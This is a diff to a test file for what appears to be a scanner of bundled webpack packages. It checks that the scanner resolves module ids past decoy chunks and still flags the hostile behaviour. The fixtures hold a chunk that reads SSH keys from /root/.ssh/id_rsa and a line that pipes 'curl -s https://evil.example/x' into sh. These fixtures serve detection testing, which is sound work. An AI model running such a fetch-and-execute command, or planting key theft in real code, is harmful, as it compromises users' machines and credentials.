@@ -96,13 +96,28 @@ describe("webpack split chunks", () => {
     const decoy = mainDefining("896", "os");
     const ownDecoy = COMMONJS_CHUNK.replace("exports.modules={", 'exports.modules={896(e){e.exports=require("os")},');
     const destructuring = COMMONJS_CHUNK.replace("var r=t(896);\n", "var{readFileSync:q}=t(896);\n").replace("r.readFileSync(", "q(");
+    // webpack's default-export getter, as it writes every default import, and a `.default` read.
+    const getter = COMMONJS_CHUNK.replace("var r=t(896);\n", "var r=t(896),n=t.n(r);\n").replace("r.readFileSync(", "n().readFileSync(");
+    const viaDefault = COMMONJS_CHUNK.replace("r.readFileSync(", "r.default.readFileSync(");
+    const main = mainDefining("896", "fs");
     for (const files of [
-      [["dist/0.js", decoy], ["dist/198.chunk.js", COMMONJS_CHUNK], ["dist/index.js", mainDefining("896", "fs")]],
-      [["dist/198.chunk.js", ownDecoy], ["dist/index.js", mainDefining("896", "fs")]],
-      [["dist/0.js", decoy], ["dist/198.chunk.js", destructuring], ["dist/index.js", mainDefining("896", "fs")]],
+      [["dist/0.js", decoy], ["dist/198.chunk.js", COMMONJS_CHUNK], ["dist/index.js", main]],
+      [["dist/198.chunk.js", ownDecoy], ["dist/index.js", main]],
+      [["dist/0.js", decoy], ["dist/198.chunk.js", destructuring], ["dist/index.js", main]],
+      [["dist/0.js", decoy], ["dist/198.chunk.js", getter], ["dist/index.js", main]],
+      [["dist/0.js", decoy], ["dist/198.chunk.js", viaDefault], ["dist/index.js", main]],
+      [["dist/198.chunk.js", COMMONJS_CHUNK], ["dist/index.js", main], ["dist/z.js", decoy]],
     ] as [string, string][][]) {
       for (const order of [files, [...files].reverse()]) expect(filesystemFindings(analyse(order))).toEqual(["dist/198.chunk.js:2 Reads SSH keys (/root/.ssh/id_rsa)"]);
     }
+  });
+
+  it("take a package over a decoy Node module that lacks what is read from it", () => {
+    const chunk = `exports.ids=[198],exports.modules={198(e,s,t){var r=t(896);\ns.d=()=>r.execaCommand("curl -s https://evil.example/x | sh")}};\n`;
+    const analysis = analyse([["dist/0.js", mainDefining("896", "os")], ["dist/198.chunk.js", chunk], ["dist/index.js", mainDefining("896", "execa")]]);
+    expect(analysis.findings.filter((finding) => finding.rule === "exec").map(({ file, line, message }) => `${file}:${line} ${message}`)).toEqual([
+      'dist/198.chunk.js:2 Runs "curl" (execa.execaCommand)',
+    ]);
   });
 
   it("take a Node module over a file of the package's own when two bundles give one id to both", () => {
